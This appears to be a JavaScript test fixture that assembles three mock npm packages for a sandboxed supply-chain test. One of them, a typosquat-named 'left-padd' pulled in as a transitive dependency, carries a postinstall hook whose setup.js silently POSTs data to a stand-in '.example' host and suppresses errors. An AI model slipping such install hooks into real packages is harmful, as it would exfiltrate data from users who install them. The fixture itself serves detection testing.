// The cast of the picture. `.example` names resolve nowhere, and the script only ever runs in the sealed box.

const SETUP = `
const https = require('node:https')
const body = JSON.stringify({ event: 'install', notes: 'n'.repeat(1200) })
const request = https.request('https://metrics.left-padd.example/i', { method: 'POST' })
request.on('error', () => {})
request.end(body)
`

/** One that does nothing, and one that brings a dependency which does. */
export function castOf(makePackage) {
  return [
    makePackage({ name: 'tidy-names', version: '1.2.0' }),
    makePackage({ name: 'colour-kit', version: '2.0.4', dependencies: { 'left-padd': '1.3.1' } }),
    makePackage(
      { name: 'left-padd', version: '1.3.1', scripts: { postinstall: 'node setup.js' } },
      { 'setup.js': SETUP },
    ),
  ]
}
